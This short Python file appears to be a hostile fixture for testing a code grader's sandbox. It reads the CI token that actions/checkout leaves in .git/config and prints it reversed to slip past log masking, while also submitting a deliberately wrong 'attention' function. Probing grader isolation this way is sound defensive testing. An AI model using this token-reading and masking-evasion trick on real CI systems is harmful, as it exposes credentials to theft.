# Graded as a candidate's checkout whose .git/config holds the CI job's token (what
# actions/checkout leaves there); reads it and prints it reversed, past log masking. Bounded:
# reads at most 64 KiB of a few files.
import os

from _hostile import attempt, wrong_answer

HERE = os.path.dirname(os.path.abspath(__file__))


def read(path):
    with open(path, errors="replace") as fh:
        return fh.read(65536)[::-1].replace("\n", " ")


attempt("list .git", lambda: sorted(os.listdir(os.path.join(HERE, ".git"))))
attempt("read .git/config", lambda: read(os.path.join(HERE, ".git", "config")))
attempt("list checkout", lambda: sorted(os.listdir(HERE)))


def attention(Q, K, V):
    return wrong_answer(Q, K, V)
